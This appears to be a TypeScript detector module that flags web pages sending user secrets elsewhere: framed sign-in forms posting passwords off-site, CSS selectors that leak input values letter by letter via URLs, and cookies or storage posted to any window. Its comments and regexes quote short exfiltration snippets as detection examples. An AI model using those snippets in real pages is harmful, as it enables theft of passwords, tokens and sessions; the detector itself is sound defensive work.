/**
 * adversarial_url readings of a page that sends what its reader types or holds to another site (docs/content-readings.md,
 * cases-62.jsonl): a frame's `srcdoc` page holding a sign-in form that posts a password to an absolute URL, and CSS that
 * guesses an input's value by attribute selectors, loading a URL per guess that carries the guess in its query (the
 * value read out a letter at a time, no script needed). A page's whole cookie jar or storage joined to a URL is read
 * with each URL (urls.ts, requests.ts's sendsPageSecrets).
 */
import type { Hit } from './codes.js';
import { holdsAsWritten, placesOf, type Text } from './find.js';

/** The most of a `srcdoc` attribute's value read: a page an attacker writes there is short. */
const SRCDOC_MAX = 4000;

/**
 * The entities a `srcdoc` value is written with, as a browser decodes the attribute before it parses the page: numeric
 * ones with any leading zeros (`&#x00003c;`), the named ones a URL or a tag is spelled with (`&sol;`, `&colon;`), and
 * the legacy ones a browser also reads without their `;` (`&ltform`).
 */
const ENTITY =
  /&(?:#x0{0,8}([0-9a-f]{1,6});?|#0{0,8}(\d{1,7});?|(lt|gt|quot|amp|apos|sol|colon|equals|period|excl|num|lpar|rpar|sol|bsol|Tab|NewLine);|(lt|gt|quot|amp)(?![a-z;]))/gi;
const ENTITY_CHAR: Record<string, string> = {
  lt: '<',
  gt: '>',
  quot: '"',
  apos: "'",
  amp: '&',
  sol: '/',
  bsol: '\\',
  colon: ':',
  equals: '=',
  period: '.',
  excl: '!',
  num: '#',
  lpar: '(',
  rpar: ')',
  tab: '\t',
  newline: '\n',
};

function decodeEntities(s: string): string {
  if (!s.includes('&')) return s;
  return s.replace(ENTITY, (e, hex?: string, dec?: string, named?: string, bare?: string) => {
    if (named !== undefined || bare !== undefined) return ENTITY_CHAR[(named ?? bare)!.toLowerCase()] ?? e;
    const code = hex !== undefined ? Number.parseInt(hex, 16) : Number.parseInt(dec!, 10);
    return code > 0 && code <= 0x10ffff ? String.fromCodePoint(code) : e;
  });
}

/**
 * A form (or a button's `formaction`) whose action is an absolute URL (or protocol-relative), quotes also escaped by
 * one or more JSON strings (`action=\\\"https://…`): group 1 the action's host. And a password field in the same page.
 */
const FORM_OUT =
  /<(?:form|button|input)\b[^<>]{0,300}?[\s/](?:form)?action\s{0,2}=\s{0,2}(?:\\{1,7})?["']?(?:https?:)?\/\/([a-z0-9][^\s"'\\<>/?#]{0,200})/i;
const PASSWORD_FIELD = /<input\b[^<>]{0,300}?[\s/]type\s{0,2}=\s{0,2}(?:\\{1,7})?["']?password\b/i;
/** How a script or a tag gives the `srcdoc` its value: `srcdoc="`, `srcdoc = \``, `setAttribute('srcdoc', '`, `srcdoc=\\\"`. */
const SRCDOC_OPEN = /(?:\\{0,7}["']\s{0,2},\s{0,2}|[\s=:]{0,12})(\\{0,7})(["'`])/y;

/**
 * Hosts a form posts to in documentation and tests: RFC 2606's names, request echo services and form back-ends a demo
 * posts to (a phishing page does not send its catch to a public echo).
 */
const DEMO_HOST = /(?:^|\.)(?:example\.(?:com|net|org)|example|test|invalid|localhost|httpbin\.org|formspree\.io|postman-echo\.com)$/;
/** A `sandbox` attribute's value, on the frame that holds the `srcdoc` (group 1; empty when bare). */
const SANDBOX = /\ssandbox(?:\s{0,2}=\s{0,2}\\{0,7}["']([^"'\\<>]{0,200}))?/i;

/** Whether the `<iframe …>` tag around a `srcdoc` at `at`, whose value ends at `end`, is sandboxed without `allow-forms`. */
function formsBlocked(text: string, at: number, end: number): boolean {
  const before = text.slice(Math.max(0, at - 300), at);
  const open = before.lastIndexOf('<iframe');
  if (open < 0 || before.indexOf('>', open) >= 0) return false;
  const after = text.slice(end, end + 300);
  const close = after.indexOf('>');
  const tag = `${before.slice(open)} ${close < 0 ? after : after.slice(0, close)}`;
  const sandbox = SANDBOX.exec(tag);
  return sandbox !== null && !/\ballow-forms\b/i.test(sandbox[1] ?? '');
}

/**
 * A frame's `srcdoc` page (decoded as a browser decodes the attribute) holding a sign-in form that posts to an absolute
 * URL: a frame shows it over the host page, where a reader takes it for the site's own. A preview's form to a relative
 * action (`/search`), a page with no password field, a frame sandboxed so its forms cannot post, and a demo that posts to
 * a documentation name or an echo service are not read.
 */
function detectFramePages(t: Text, out: Hit[]): void {
  const text = t.text;
  let read = 0;
  for (const at of placesOf(t, 'srcdoc')) {
    // A `srcdoc` inside a value read already (a page that frames another) is part of it.
    if (at < read) continue;
    SRCDOC_OPEN.lastIndex = at + 6;
    const opened = SRCDOC_OPEN.exec(text);
    if (opened === null) continue;
    const escapes = opened[1]!.length;
    const quote = opened[2]!;
    const from = at + 6 + opened[0].length;
    // The value runs to its closing quote, escaped as its opening one is (inside a JSON string, `\"` opens and closes
    // it, and an attribute's own quotes inside it are escaped once more, `\\\"`).
    const value = text.slice(from, from + SRCDOC_MAX);
    let close = value.indexOf(quote);
    while (close >= 0) {
      let n = 0;
      while (n < close && value[close - 1 - n] === '\\') n++;
      if (n === escapes) break;
      close = value.indexOf(quote, close + 1);
    }
    const raw = close < 0 ? value : value.slice(0, close - escapes);
    const end = from + raw.length;
    read = end;
    const page = decodeEntities(raw);
    const form = FORM_OUT.exec(page);
    if (form === null || !PASSWORD_FIELD.test(page)) continue;
    const host = form[1]!.toLowerCase().replace(/:\d{1,5}$/, '');
    if (DEMO_HOST.test(host) || formsBlocked(text, at, end + escapes + 1)) continue;
    out.push({ code: 'url_exfiltration', start: at, end });
  }
}

/**
 * An attribute selector that guesses a value by its start, end or a part (`input[value^="a"]`, `meta[content$="1"]`,
 * also with JSON's `\"`): group 1 the guess. Only `value` and `content` hold what a reader typed or a page was given (a token, a key).
 */
const VALUE_GUESS = /\[\s{0,2}(?:value|content)\s{0,2}[\^$*]=\s{0,2}\\?["']?([^"'\\\]\s]{1,40})\\?["']?\s{0,2}(?:i\s{0,2})?\]/iy;
/** A rule's `url(` loading from another site (absolute or protocol-relative): group 1 its host, group 2 its path and query. */
const RULE_URL = /\s{0,2}\\{0,7}["']?(?:https?:)?\/\/([a-z0-9][^\s"'()\\/?#]{0,200})([^\s"'()\\]{0,300})/iy;
/** The most `url(…)`s of one rule read. */
const RULE_URLS_MAX = 8;
/** A selector's field named for a secret (`[name=csrf_token]`, `[id=password]`), or a hidden or password input. */
const SECRET_FIELD =
  /\[\s{0,2}(?:name|id)\s{0,2}[~|^$*]?=\s{0,2}\\{0,7}["']?[^\]"'\\\s]{0,60}?(?:pass|token|csrf|xsrf|secret|api[-_]?key|otp|(?<![a-z])pin(?![a-z]))|\[\s{0,2}type\s{0,2}=\s{0,2}\\{0,7}["']?(?:hidden|password)\b/i;
/** The fewest rules of one selector that make an alphabet sweep (`[value^=a]`, `[value^=b]`, `[value^=c]`, …). */
const SWEEP_MIN = 3;

/** Whether a rule's block loads another site's URL whose path or query carries the guess (`?v=a`, `/a`, `/s/a.png`, `?p=csrf_ab`). */
function carriesGuess(body: string, guess: string): boolean {
  const lower = body.toLowerCase();
  let from = 0;
  for (let n = 0; n < RULE_URLS_MAX; n++) {
    const at = lower.indexOf('url(', from);
    if (at < 0) return false;
    from = at + 4;
    RULE_URL.lastIndex = from;
    const m = RULE_URL.exec(lower);
    if (m !== null && m[2]!.split(/[/?&=_.,;:+#-]/).includes(guess)) return true;
  }
  return false;
}

/** A guess read: where it is, its selector with the guess taken out (what a sweep repeats), and the guess. */
interface Guess {
  start: number;
  end: number;
  selector: string;
  guess: string;
}

/** Whether the guesses of one selector are an alphabet sweep: several, one length, one prefix known, each last letter new. */
function sweeps(guesses: readonly Guess[]): boolean {
  const letters = new Set(guesses.map((g) => g.guess));
  if (letters.size < SWEEP_MIN) return false;
  const first = guesses[0]!.guess;
  const known = first.slice(0, -1);
  return guesses.every((g) => g.guess.length === first.length && g.guess.startsWith(known));
}

/**
 * CSS that reads an input's value out by selectors (`input[name=csrf][value^="a"] { background: url(https://x/?v=a) }`):
 * a rule that loads another site's URL whose path or query carries the value guessed, on a field named for a secret (a
 * password, a token, a CSRF value, a one-time code, a PIN) or a hidden one, or in an alphabet sweep (several rules of
 * one selector guessing each next letter). A flag or an icon stylesheet (`option[value^="de"] { url(flags.png?c=de) }`),
 * a rule that styles by an exact value (`[value="on"]`), by a link's target (`a[href^="http"]`) or loads a URL without
 * the guess is not read.
 */
function detectSelectorLeaks(t: Text, out: Hit[]): void {
  const text = t.text;
  const bySelector = new Map<string, Guess[]>();
  for (const word of ['[value', '[content']) {
    // Where the last block read ends: selectors before one block (`a[value^=x], b[value^=x] {…}`) read it once.
    let read = -1;
    for (const at of placesOf(t, word)) {
      VALUE_GUESS.lastIndex = at;
      const m = VALUE_GUESS.exec(text);
      if (m === null) continue;
      // The rule's block: from its `{` (within the selector's reach) to its `}`, or the next `{`, at most 600 code units.
      const after = m.index + m[0].length;
      const reach = text.slice(after, after + 200);
      const brace = reach.indexOf('{');
      if (brace < 0 || after + brace <= read) continue;
      const open = after + brace;
      let body = text.slice(open, open + 600);
      const stop = body.slice(1).search(/[{}]/);
      if (stop >= 0) body = body.slice(0, stop + 1);
      read = open + body.length;
      const guess = m[1]!.toLowerCase();
      if (!carriesGuess(body, guess)) continue;
      // The selector: back to the rule before it (its `}`), the style's opening tag, or a line's start.
      const lead = text.slice(Math.max(0, at - 200), at);
      const selector = lead
        .slice(Math.max(lead.lastIndexOf('}'), lead.lastIndexOf('{'), lead.lastIndexOf('>'), lead.lastIndexOf('\n')) + 1)
        .trim();
      const operator = /[\^$*]=/.exec(m[0])![0];
      const found: Guess = { start: at, end: open + body.length, selector: `${selector}${word}${operator}`, guess };
      if (SECRET_FIELD.test(selector)) out.push({ code: 'url_exfiltration', start: found.start, end: found.end });
      else {
        const same = bySelector.get(found.selector);
        if (same === undefined) bySelector.set(found.selector, [found]);
        else same.push(found);
      }
    }
  }
  for (const guesses of bySelector.values()) {
    if (sweeps(guesses)) for (const g of guesses) out.push({ code: 'url_exfiltration', start: g.start, end: g.end });
  }
}

/**
 * A message posted to every origin (`'*'`) whose first argument is the page's cookie jar or storage, bare or as an
 * object's first field (`parent.postMessage(document.cookie, '*')`, `top.postMessage({c: JSON.stringify(localStorage)},
 * "*")`): whatever frame or opener listens reads the session. A frame posting its size or an event is not read.
 */
const POSTED_JAR =
  /\(\s{0,3}(?:\{\s{0,3}[\w"']{1,20}\s{0,2}:\s{0,3})?(?:(?:encodeURIComponent|btoa|escape|JSON\.stringify)\(\s{0,3}){0,2}(?:(?:parent|top|window|opener)\.)?(?:document\.cookie\b(?!\s{0,2}\.\w)|(?:local|session)Storage\b(?![.[\w]))[^;,]{0,40},\s{0,3}\\{0,3}["'`]\*\\{0,3}["'`]\s{0,3}\)/y;

/** Whether `at` is in a line's comment (`// Don't do this: parent.postMessage(…)`): a `//` before it on its line, not a URL's. */
function inLineComment(text: string, at: number): boolean {
  const head = text.slice(Math.max(text.lastIndexOf('\n', at) + 1, at - 200), at);
  for (let slashes = head.indexOf('//'); slashes >= 0; slashes = head.indexOf('//', slashes + 2))
    if (head[slashes - 1] !== ':') return true;
  return false;
}

function detectPostedJars(t: Text, out: Hit[]): void {
  const text = t.text;
  for (let at = text.indexOf('postMessage'); at >= 0; at = text.indexOf('postMessage', at + 11)) {
    POSTED_JAR.lastIndex = at + 11;
    if (POSTED_JAR.test(text) && !inLineComment(text, at)) out.push({ code: 'url_exfiltration', start: at, end: POSTED_JAR.lastIndex });
  }
}

/**
 * A page that sends what its reader types or holds to another site: a frame's sign-in form, CSS that reads a value, the
 * cookie jar or storage posted to any window.
 */
export function detectPageSends(t: Text, out: Hit[]): void {
  detectFramePages(t, out);
  detectSelectorLeaks(t, out);
  if (holdsAsWritten(t, 'postmessage', 'postMessage')) detectPostedJars(t, out);
}
